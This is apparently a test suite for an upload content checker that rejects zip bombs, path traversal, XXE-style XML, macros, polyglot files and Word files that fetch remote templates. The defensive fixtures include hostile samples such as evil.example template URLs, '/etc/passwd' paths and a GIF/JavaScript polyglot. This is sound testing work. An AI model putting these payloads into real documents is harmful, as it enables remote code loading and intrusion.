import { randomBytes } from 'node:crypto'
import zlib from 'node:zlib'
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { cpuMs } from '#testing/cpu-ms.ts'
import { longestTurn } from '#testing/longest-turn.ts'
import { type OdtSides, writeOdt } from '../text/odt-writer.testing.ts'
import { checkContent } from './check-content.ts'
import { writeCompoundFile } from './compound-file-writer.testing.ts'
import type { FileKind } from './file-kinds.ts'
import { genuineFiles } from './genuine-files.testing.ts'
import { docxParts, writeZip, type ZipPart } from './zip-writer.testing.ts'

let genuine: Record<FileKind, Buffer>
beforeAll(async () => {
  genuine = await genuineFiles()
})
afterEach(() => void vi.restoreAllMocks())

const docx = (...more: ZipPart[]) => checkContent('docx', writeZip([...docxParts('<w:p/>'), ...more]))

it('reads megabytes of brackets as JSON while other requests are answered', async () => {
  const text = '['.repeat(2_000_000) + ']'.repeat(2_000_000)
  const before = cpuMs()
  JSON.parse(text)
  const here = cpuMs() - before
  expect(await longestTurn(() => checkContent('json', Buffer.from(text)))).toBeLessThan(here / 2)
  expect(await checkContent('json', Buffer.from(text))).toBe('agrees')
  expect(await checkContent('json', Buffer.from(text.slice(1)))).toBe('differs')
})

describe('hostile zips as Word files', () => {
  const zeros = Buffer.alloc(80 * 1024 * 1024)
  /** Counts the bytes that are unpacked from here on. */
  const unpacked = () => {
    const create = zlib.createInflateRaw
    const made = { bytes: 0 }
    vi.spyOn(zlib, 'createInflateRaw').mockImplementation((options) => {
      const stream = create(options)
      const push = stream.push.bind(stream)
      stream.push = (chunk, encoding) => {
        made.bytes += chunk?.length ?? 0
        return push(chunk, encoding)
      }
      return stream
    })
    return made
  }

  it('counts the bytes of a valid part while it is unpacked', async () => {
    const made = unpacked()
    expect(await docx({ name: 'word/a.xml', content: zeros.subarray(0, 300_000), isDeflated: true })).toBe('agrees')
    expect(made.bytes).toBeGreaterThanOrEqual(300_000)
  })

  it('rejects a bomb by its declared size, without unpacking it', async () => {
    const made = unpacked()
    const bomb = writeZip([...docxParts('<w:p/>'), { name: 'word/media/a.bin', content: zeros, isDeflated: true }])
    expect(await checkContent('docx', bomb)).toBe('dangerous')
    expect(made.bytes).toBe(0)
  })

  it('refuses a bomb that lies about its size, at the first byte too many', async () => {
    const made = unpacked()
    const part = { name: 'word/a.xml', content: zeros, isDeflated: true, claims: { size: 100_000 } }
    const bomb = writeZip([...docxParts('<w:p/>'), part])
    expect(await checkContent('docx', bomb)).toBe('dangerous')
    // a stream unpacks slightly more than was read
    expect(made.bytes).toBeLessThan(1_000_000)
  })

  it('refuses a bomb whose entries share their bytes', async () => {
    const shared = Array.from({ length: 60 }, (_, index) => {
      const claims = { size: 1_500_000, packedSize: 50_000, offset: 0 }
      return { name: `word/${index}.xml`, content: '', isDeflated: true, claims }
    })
    const bytes = writeZip([{ name: 'word/body.xml', content: randomBytes(60_000) }, ...docxParts('<w:p/>'), ...shared])
    expect(await checkContent('docx', bytes)).toBe('dangerous')
  })

  it('refuses many entries, and many that are large only together', async () => {
    const many = Array.from({ length: 4100 }, (_, index) => ({ name: `word/${index}.xml`, content: '' }))
    expect(await docx(...many)).toBe('dangerous')
    const content = Buffer.alloc(1_900_000)
    const large = Array.from({ length: 60 }, (_, index) => ({ name: `word/${index}.xml`, content, isDeflated: true }))
    expect(await docx(...large)).toBe('dangerous')
  })

  it.each(['../evil.xml', '/etc/passwd', 'word/../../evil', 'C:/evil', 'word/a\0.xml'])(
    'U1 refuses the path %j inside',
    async (name) => {
      expect(await docx({ name, content: 'x' })).toBe('dangerous')
    },
  )

  it('refuses links, encryption and two entries of one name', async () => {
    expect(await docx({ name: 'word/link', content: '/etc/passwd', claims: { attributes: 0xa1ff0000 } })).toBe(
      'dangerous',
    )
    expect(await docx({ name: 'word/a.xml', content: 'x', isDeflated: true, claims: { flags: 0x0801 } })).toBe(
      'dangerous',
    )
    expect(await docx({ name: 'word/DOCUMENT.xml', content: 'x' })).toBe('dangerous')
  })

  it('refuses zips that two programs would read differently', async () => {
    const honest = writeZip(docxParts('<w:p/>'))
    expect(await checkContent('docx', Buffer.concat([Buffer.from('MZ'), honest]))).toBe('differs')
    expect(await checkContent('docx', Buffer.concat([honest, Buffer.from('tail')]))).toBe('dangerous')
    expect(await checkContent('docx', Buffer.concat([honest, honest]))).toBe('dangerous')
    expect(await checkContent('docx', writeZip(docxParts('<w:p/>'), 'comment'))).toBe('dangerous')
  })

  it('refuses macros, also under a changed name of the file', async () => {
    expect(await docx({ name: 'word/vbaProject.bin', content: 'x' })).toBe('dangerous')
    const [types, ...rest] = docxParts('<w:p/>')
    const macro = String(types?.content).replace(
      'openxmlformats-officedocument.wordprocessingml.document.main',
      'ms-word.document.macroEnabled.main',
    )
    expect(await checkContent('docx', writeZip([{ name: '[Content_Types].xml', content: macro }, ...rest]))).toBe(
      'differs',
    )
  })

  it('refuses any other zip, and a Word file cut short', async () => {
    expect(await checkContent('docx', writeZip([{ name: 'a.txt', content: 'x' }]))).toBe('differs')
    expect(await checkContent('docx', writeZip([]))).toBe('differs')
    expect(await checkContent('docx', genuine.docx.subarray(0, -30))).toBe('differs')
  })
})

describe('hostile XML', () => {
  const xml = (text: string) => checkContent('xml', Buffer.from(text))

  it('accepts an element with a declaration and a comment before it', async () => {
    expect(
      await xml('<?xml version="1.0"?>\n<!-- a -- comment -->\n<a:b xmlns:a="https://example.com">&lt;p&gt;</a:b>'),
    ).toBe('agrees')
  })

  it.each([
    ['a document type', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'],
    ['a document type after a comment', '<!-- a --><!doctype a><a/>'],
    ['a style sheet', '<?xml-stylesheet href="https://example.com/a.xsl"?><a/>'],
    ['a page', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
    ['a page whose address is written with entities', '<a xmlns="http://www.w3.org/1999/&#120;html"/>'],
    ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['a transformation', '<a xmlns:x="http://www.w3.org/1999/XSL/Transform"/>'],
  ])('refuses %s', async (_, text) => {
    expect(await xml(text)).toBe('dangerous')
  })

  it('refuses text and other data', async () => {
    for (const text of ['Maya', '{"a":1}', '< a>', '\0<a/>']) expect(await xml(text), text).toBe('differs')
  })
})

describe('hostile OpenDocument texts', () => {
  const odt = (body: string, sides?: OdtSides) => checkContent('odt', writeOdt(body, sides))
  const image = (address: string) => `<draw:image xlink:href=${address}/>`

  it('accepts embedded images, hyperlinks, and an image next to the file', async () => {
    const link = '<text:p><text:a xlink:href="https://example.com">a page</text:a></text:p>'
    expect(await odt(link + image('"Pictures/1.png"') + image('"../photo.png"'))).toBe('agrees')
  })

  it.each([
    ['a picture from elsewhere', image('"https://example.com/p.png"')],
    ['a picture from another computer', image("'&#47;/example.com/p.png'")],
    ['one with other words before its address', '<draw:image a=">" xlink:href="\\\\example.com\\p"/>'],
    ['a part of another text', '<text:section-source xlink:href="https://example.com/t.odt"/>'],
    ['what starts a macro', '<office:event-listeners><script:event-listener/></office:event-listeners>'],
  ])('refuses %s', async (_, body) => {
    expect(await odt(body)).toBe('dangerous')
    expect(await odt('', { masters: body })).toBe('dangerous')
  })

  it('refuses macros, any other zip, and one that is a spreadsheet', async () => {
    expect(await odt('', { more: [{ name: 'Basic/Standard/Module1.xml', content: 'x' }] })).toBe('dangerous')
    expect(await checkContent('odt', genuine.docx)).toBe('differs')
    const mimetype = 'application/vnd.oasis.opendocument.spreadsheet'
    const sheet = [
      { name: 'mimetype', content: mimetype },
      { name: 'content.xml', content: '<a/>' },
    ]
    expect(await checkContent('odt', writeZip(sheet))).toBe('differs')
  })
})

describe('Word files that load external content on opening', () => {
  const kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const settings = (relation: string, content: string | Buffer = `<Relationships>${relation}</Relationships>`) =>
    docx({ name: 'word/_rels/settings.xml.rels', content })
  const template = (target: string) =>
    `<Relationship Id="rId1" Type="${kind}/attachedTemplate" Target="${target}" TargetMode="External"/>`

  it.each([
    'https://evil.example/t.dotm',
    '&#104;ttps://evil.example/t.dotm',
    '&#x68;ttp://evil.example/t.dotm',
    'file:///\\\\evil.example\\share\\t.dotm',
    'file://evil.example/share/t.dotm',
    '\\\\evil.example\\share\\t.dotm',
    'mhtml:https://evil.example/a!x-usc:b',
  ])('U1 refuses a template at %s', async (target) => {
    expect(await settings(template(target))).toBe('dangerous')
    expect(await settings(template(target).replace('<Rel', '<p:Rel').replaceAll('"', "'"))).toBe('dangerous')
  })

  it.each(['image', 'aFChunk', 'oleObject', 'frame', 'subDocument', 'video', 'what-comes-next'])(
    'U1 refuses whatever is fetched on opening: %s',
    async (type) => {
      const relation = template('\\\\evil.example\\share\\x.png').replace('attachedTemplate', type)
      expect(await settings(relation)).toBe('dangerous')
      expect(await settings(relation.replace('Target=', `Id="${kind}/hyperlink" Target=`))).toBe('dangerous')
    },
  )

  it('refuses a relation with the end of a tag in its values, or with misleading text after it', async () => {
    const image = template('https://evil.example/x.png').replace('attachedTemplate', 'image')
    expect(await settings(image.replace('Target=', 'Id="a>b" Target='))).toBe('dangerous')
    expect(await settings(`${image}<!-- Type="${kind}/hyperlink" -->`)).toBe('dangerous')
  })

  it.each([`' Type="${kind}/hyperlink" '`, `"a&#34; Type=&#34;${kind}/hyperlink"`, `'a Target="c:\\x"'`])(
    'U1 refuses a relation with a value that looks like an excuse: %s',
    async (value) => {
      const image = template('https://evil.example/x.png').replace('attachedTemplate', 'image')
      expect(await settings(image.replace('"https://evil.example/x.png"', value))).toBe('dangerous')
      expect(await settings(image.replace('Type=', `Id=${value} Type=`))).toBe('dangerous')
    },
  )

  it('refuses relations in an encoding that could hide them', async () => {
    const hidden = Buffer.from(`<Relationships>${template('https://evil.example/')}</Relationships>`, 'utf16le')
    expect(await settings('', hidden)).toBe('dangerous')
    expect(await settings('', Buffer.concat([Buffer.from([0xff, 0xfe]), hidden]))).toBe('dangerous')
  })

  it('accepts relations that Word writes into every other file', async () => {
    expect(await settings(template('file:///C:\\Users\\Maya\\Templates\\Normal.dotm'))).toBe('agrees')
    const link = `<Relationship Id="r" Type="${kind}/hyperlink" Target="https://maya.example" TargetMode="External"/>`
    expect(await settings(link)).toBe('agrees')
  })
})

describe('two files in one', () => {
  it.each(['pdf', 'png', 'jpg', 'gif', 'webp'] as const)('U1 refuses a %s that is a zip as well', async (kind) => {
    const archive = writeZip([{ name: 'evil.class', content: 'x' }])
    expect(await checkContent(kind, genuine[kind])).toBe('agrees')
    expect(await checkContent(kind, Buffer.concat([genuine[kind], archive]))).toBe('dangerous')
    expect(await checkContent(kind, Buffer.concat([genuine[kind], archive, Buffer.alloc(500)]))).toBe('dangerous')
  })

  it.each([
    ['a script that begins like a GIF', 'gif', Buffer.from('GIF89a=1;alert(document.domain)//')],
    ['a PDF behind other bytes', 'pdf', Buffer.from('GIF89a%PDF-1.7')],
    ['a page called PDF', 'pdf', Buffer.from('<html>%PDF-1.7</html>')],
    ['a drawing called PNG', 'png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')],
    ['a program called Word file', 'doc', Buffer.from(`MZ${'\0'.repeat(2000)}`)],
    [
      'another Office file called Word file',
      'doc',
      writeCompoundFile([{ name: 'Workbook', content: Buffer.alloc(9) }]),
    ],
  ] as const)('refuses %s (DOCS-20)', async (_, kind, bytes) => {
    expect(await checkContent(kind, bytes)).toBe('differs')
  })

  it('refuses macros in an old Word file', async () => {
    const parts = [{ name: 'WordDocument', content: Buffer.alloc(5000) }, { name: 'Macros' }]
    expect(await checkContent('doc', writeCompoundFile(parts))).toBe('dangerous')
  })
})
